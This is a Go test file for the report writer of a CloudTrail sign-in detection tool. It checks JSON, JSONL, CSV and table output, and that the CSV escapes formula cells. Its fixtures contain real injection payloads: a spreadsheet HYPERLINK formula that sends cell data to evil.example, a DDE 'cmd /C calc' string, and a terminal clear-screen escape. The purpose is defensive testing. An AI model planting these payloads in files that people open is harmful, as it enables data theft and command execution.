package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/signwatch/signwatch/internal/alert"
	"github.com/signwatch/signwatch/internal/event"
	"github.com/signwatch/signwatch/internal/summary"
)

var t0 = time.Date(2023, 7, 16, 4, 33, 40, 0, time.UTC)

const evilUA = `=HYPERLINK("http://evil.example/?x="&A1,"click")` + "\x1b[2J"

func testAlerts() []alert.Alert {
	var recs []event.SignIn
	var ids []string
	for i := 0; i < 5; i++ {
		recs = append(recs, event.SignIn{Time: t0.Add(time.Duration(i) * time.Minute), EventID: fmt.Sprintf("f%d", i),
			EventSource: "signin.amazonaws.com", EventName: "ConsoleLogin", Outcome: event.Failure, Account: "123456789012",
			Actor: event.Actor{Type: event.ActorRoot, Name: "root"}, SourceIP: "198.51.100.7", SourceIsIP: true, MFAKnown: true})
		ids = append(ids, fmt.Sprintf("f%d", i))
	}
	return []alert.Alert{
		{ // later, single event
			Rule:    alert.RuleRef{ID: "r-root", Title: "Root console sign-in", Level: "high", Tags: []string{"attack.t1078.004"}, Kind: alert.KindSingle},
			Account: "123456789012", Region: "us-east-1", FirstSeen: t0.Add(10 * time.Minute), LastSeen: t0.Add(10 * time.Minute),
			Count: 1, EventIDs: []string{"s1"}, Actor: "@arn:aws:iam::123456789012:root", SourceIP: "198.51.100.7", UserAgent: evilUA,
			Explanation: []alert.Evidence{{EventID: "s1", Selection: "selection", Field: "userIdentity.type", Value: "Root", Pattern: "Root"}},
		},
		{ // earlier, correlation
			Rule:    alert.RuleRef{ID: "r-brute", Title: "Root sign-in brute force", Level: "high", Tags: []string{"attack.t1110"}, Kind: alert.KindEventCount},
			Account: "123456789012", Region: "us-east-1", FirstSeen: t0, LastSeen: t0.Add(4 * time.Minute),
			GroupKey: []alert.KV{{Key: "sourceIPAddress", Value: "198.51.100.7"}, {Key: "recipientAccountId", Value: "123456789012"}},
			Count:    5, EventIDs: ids, Records: recs, SourceIP: "198.51.100.7",
			Aggregate: &alert.Aggregate{Func: "count", Value: 5, Threshold: ">= 5"},
		},
		{ // no time: last
			Rule:    alert.RuleRef{ID: "internal-evicted", Title: "Correlation state evicted", Level: "medium", Kind: alert.KindInternal},
			Summary: "3 correlation groups evicted (limit 100000)",
		},
	}
}

func testSummary(t *testing.T) *summary.Summary {
	s := summary.New()
	var d event.Doc
	for i, e := range []string{
		`{"eventID":"a","eventTime":"2023-07-16T04:33:40Z","awsRegion":"us-east-1","recipientAccountId":"123456789012","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","userIdentity":{"type":"Root","arn":"arn:aws:iam::123456789012:root"},"sourceIPAddress":"198.51.100.7","userAgent":"-cmd|' /C calc'!A0","responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}`,
		`{"eventID":"b","awsRegion":"eu-west-1","eventSource":"s3.amazonaws.com","eventName":"GetObject","userIdentity":{"type":"AssumedRole"}}`,
	} {
		if err := d.Parse([]byte(e)); err != nil {
			t.Fatalf("fixture %d: %v", i, err)
		}
		s.AddEvent(d.Root(), []byte(e))
	}
	s.AddFile("logs/a.json", 3000)
	s.AddFile("logs/b.json", 1000)
	s.AddRead()
	s.AddRead()
	s.AddRead()
	s.AddDuplicate()
	s.SetThroughput(2*time.Second, 4e6)
	s.SetRules(40, 2, 1)
	s.AddSkipped("LICENSE", "not CloudTrail")
	s.AddProblem("logs/a.json:3:17: invalid JSON")
	s.AddAlarmTransition("SignInFailedMFAAlarm", "OK", "ALARM", t0, "1 datapoint >= 1")
	return s
}

func write(t *testing.T, format string, opt Options) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, format, testAlerts(), testSummary(t), opt); err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return b.String()
}

func TestJSONValidatesAgainstSchema(t *testing.T) {
	d := loadSchema(t)
	out := write(t, "json", Options{})
	var doc any
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("json output is not JSON: %v", err)
	}
	if err := d.validate(d.root, doc, "$"); err != nil {
		t.Fatalf("schema: %v\n%s", err, out)
	}
	var typed Document
	if err := json.Unmarshal([]byte(out), &typed); err != nil {
		t.Fatal(err)
	}
	ids := []string{}
	for _, det := range typed.Detections {
		ids = append(ids, det.Rule.ID)
	}
	if strings.Join(ids, ",") != "r-brute,r-root,internal-evicted" {
		t.Errorf("timeline order %v", ids)
	}
	brute := typed.Detections[0]
	if brute.Summary != "5 failed root console sign-ins from 198.51.100.7 to 123456789012 in 4 min" {
		t.Errorf("summary %q", brute.Summary)
	}
	if *brute.FirstSeen != "2023-07-16T04:33:40Z" || len(brute.EventIDs) != 5 || len(brute.Records) != 5 {
		t.Errorf("brute %+v", brute)
	}
	if !strings.Contains(out, `"group_key":{"sourceIPAddress":"198.51.100.7","recipientAccountId":"123456789012"}`) {
		t.Error("group key not written as an ordered object")
	}
	if typed.Detections[2].FirstSeen != nil || typed.Summary.DetectionsByLevel["high"] != 2 || typed.Summary.DetectionsByLevel["medium"] != 1 {
		t.Errorf("untimed alert or level counts: %+v %+v", typed.Detections[2], typed.Summary.DetectionsByLevel)
	}
	if typed.Summary.Events.Unique != 2 || typed.Summary.Events.Duplicates != 1 || typed.Summary.Files.Skipped != 1 {
		t.Errorf("summary counts %+v", typed.Summary.Events)
	}
}

func TestJSONLLines(t *testing.T) {
	d := loadSchema(t)
	out := write(t, "jsonl", Options{})
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("want 3 detections and a summary, got %d lines", len(lines))
	}
	for i, l := range lines {
		var v map[string]any
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		def := "detection_line"
		if i == len(lines)-1 {
			def = "summary_line"
		}
		if err := d.validate(d.def(def), v, fmt.Sprintf("line %d", i+1)); err != nil {
			t.Errorf("%v\n%s", err, l)
		}
	}
	if !strings.HasPrefix(lines[3], `{"type":"summary"`) {
		t.Errorf("summary line %s", lines[3])
	}
}

func TestCSVNeutralizesAndParses(t *testing.T) {
	out := write(t, "csv", Options{})
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("csv does not parse: %v", err)
	}
	if strings.Join(rows[0], ",") != strings.Join(CSVHeader, ",") {
		t.Errorf("header %v", rows[0])
	}
	col := map[string]int{}
	for i, h := range CSVHeader {
		col[h] = i
	}
	root := rows[2]
	if root[col["rule_id"]] != "r-root" || root[col["user_agent"]] != "'"+evilUA || root[col["actor"]] != "'@arn:aws:iam::123456789012:root" {
		t.Errorf("root row %q", root)
	}
	metrics := map[string]string{}
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("dangerous cell %q", c)
			}
		}
		if r[0] == "summary" {
			metrics[r[col["metric"]]] = r[col["value"]]
		}
	}
	want := map[string]string{"events.unique": "2", "events.duplicates": "1", "files.skipped_files[0].name": "LICENSE",
		"sign_in_top.user_agents[0].key": "'-cmd|' /C calc'!A0", "rules_loaded": "42", "detections_by_level.high": "2"}
	for k, v := range want {
		if metrics[k] != v {
			t.Errorf("metric %s = %q, want %q", k, metrics[k], v)
		}
	}
}

func TestTable(t *testing.T) {
	plain := write(t, "table", Options{})
	if strings.Contains(plain, "\x1b") {
		t.Errorf("escape sequences without color:\n%q", plain)
	}
	lines := strings.Split(plain, "\n")
	if !strings.HasPrefix(lines[0], "TIME") {
		t.Fatalf("header %q", lines[0])
	}
	at := strings.Index(lines[0], "LEVEL")
	for _, l := range lines[1:4] {
		if l[at:at+4] != "high" && l[at:at+6] != "medium" {
			t.Errorf("misaligned level column at %d: %q", at, l)
		}
	}
	if !strings.Contains(lines[1], "Root sign-in brute force") || !strings.HasPrefix(lines[3], "(no time)") {
		t.Errorf("order:\n%s", strings.Join(lines[:4], "\n"))
	}
	for _, want := range []string{"Events         3 read, 2 unique, 1 duplicates", "logs/a.json:3:17", "skipped LICENSE: not CloudTrail",
		"ConsoleLogin", "WARNING the input has no events from us-east-2", "Detections     0 critical, 2 high, 1 medium"} {
		if !strings.Contains(plain, want) {
			t.Errorf("table lacks %q", want)
		}
	}
	colored := write(t, "table", Options{Color: true})
	if !strings.Contains(colored, "\x1b[31mhigh\x1b[0m") || strings.Contains(colored, "\x1b[2J") {
		t.Errorf("colors wrong or attacker escape leaked")
	}
	var empty bytes.Buffer
	if err := Write(&empty, "table", nil, nil, Options{NoSummary: true}); err != nil || empty.String() != "No detections.\n" {
		t.Errorf("empty table %q %v", empty.String(), err)
	}
}

func TestSortedDoesNotModify(t *testing.T) {
	in := testAlerts()
	first := in[0].Rule.ID
	out := Sorted(in)
	if in[0].Rule.ID != first || out[0].Rule.ID != "r-brute" {
		t.Error("Sorted modified its input or did not sort")
	}
}

func TestUnknownFormat(t *testing.T) {
	err := Write(&bytes.Buffer{}, "xml", nil, nil, Options{})
	if err == nil || !strings.Contains(err.Error(), `"xml"`) {
		t.Errorf("got %v", err)
	}
}

func FuzzCSVCell(f *testing.F) {
	f.Add("=1+1", "@SUM(A1)")
	f.Add("\"quoted\",\r\nnext", "-2")
	f.Fuzz(func(t *testing.T, ua, actor string) {
		checkCSVCellsSafe(t, alert.Alert{Rule: alert.RuleRef{ID: "x", Title: "t", Level: "low"}, UserAgent: ua, Actor: actor, Count: 1})
	})
}

// checkCSVCellsSafe writes a as CSV: no cell of its row may start with a
// character a spreadsheet reads as a formula.
func checkCSVCellsSafe(t *testing.T, a alert.Alert) {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, "csv", []alert.Alert{a}, nil, Options{NoSummary: true}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("rows %d err %v", len(rows), err)
	}
	for _, c := range rows[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Fatalf("dangerous cell %q", c)
		}
	}
}

// FuzzGroupKeyJSON: any input either fails cleanly or round-trips with its
// member order kept.
func FuzzGroupKeyJSON(f *testing.F) {
	f.Add([]byte(`{"recipientAccountId":"123","sourceIPAddress":"198.51.100.7"}`))
	f.Add([]byte(`{"a":1}`))
	f.Add([]byte(`null`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var g GroupKey
		if err := json.Unmarshal(data, &g); err != nil {
			return
		}
		b, err := json.Marshal(g)
		if err != nil {
			t.Fatal(err)
		}
		var h GroupKey
		if err := json.Unmarshal(b, &h); err != nil {
			t.Fatalf("re-read %s: %v", b, err)
		}
		if len(g) != len(h) {
			t.Fatalf("%d members became %d", len(g), len(h))
		}
		for i := range g {
			if g[i] != h[i] {
				t.Fatalf("member %d: %v became %v", i, g[i], h[i])
			}
		}
	})
}

// TestJSONStreamedEqualsDocument checks that the streamed JSON report has
// exactly the bytes encoding/json writes for the whole Document, with and
// without detections.
func TestJSONStreamedEqualsDocument(t *testing.T) {
	// Many detections: several windows, encoded in parallel parts.
	var many []alert.Alert
	for i := 0; i < 2*encodeWindow+77; i++ {
		for _, a := range testAlerts() {
			a.FirstSeen = a.FirstSeen.Add(time.Duration(i) * time.Second)
			a.Account = fmt.Sprintf("%012d", i)
			many = append(many, a)
		}
	}
	for _, alerts := range [][]alert.Alert{testAlerts(), nil, many} {
		s := testSummary(t)
		var got bytes.Buffer
		if err := Write(&got, "json", alerts, s, Options{}); err != nil {
			t.Fatal(err)
		}
		sorted := Sorted(alerts)
		doc := Document{SchemaVersion: SchemaVersion, Detections: []Detection{}, Summary: summaryView(sorted, s)}
		for i := range sorted {
			doc.Detections = append(doc.Detections, NewDetection(&sorted[i]))
		}
		var want bytes.Buffer
		if err := newEncoder(&want).Encode(doc); err != nil {
			t.Fatal(err)
		}
		if got.String() != want.String() {
			t.Fatalf("streamed report differs from the encoded Document:\n got %s\nwant %s", got.String(), want.String())
		}
	}
}

// TestJSONLStreamedEqualsEncoder checks that JSON Lines written in parallel
// windows has the bytes of encoding each detection in turn.
func TestJSONLStreamedEqualsEncoder(t *testing.T) {
	var many []alert.Alert
	for i := 0; i < encodeWindow+500; i++ {
		for _, a := range testAlerts() {
			a.Account = fmt.Sprintf("%012d", i)
			many = append(many, a)
		}
	}
	s := testSummary(t)
	var got bytes.Buffer
	if err := Write(&got, "jsonl", many, s, Options{}); err != nil {
		t.Fatal(err)
	}
	sorted := Sorted(many)
	var want bytes.Buffer
	enc := newEncoder(&want)
	for i := range sorted {
		d := NewDetection(&sorted[i])
		d.Type = "detection"
		if err := enc.Encode(d); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.Encode(summaryLine{Type: "summary", SchemaVersion: SchemaVersion, View: summaryView(sorted, s)}); err != nil {
		t.Fatal(err)
	}
	if got.String() != want.String() {
		t.Fatalf("JSON Lines differ from encoding each detection in turn (%d vs %d bytes)", got.Len(), want.Len())
	}
}
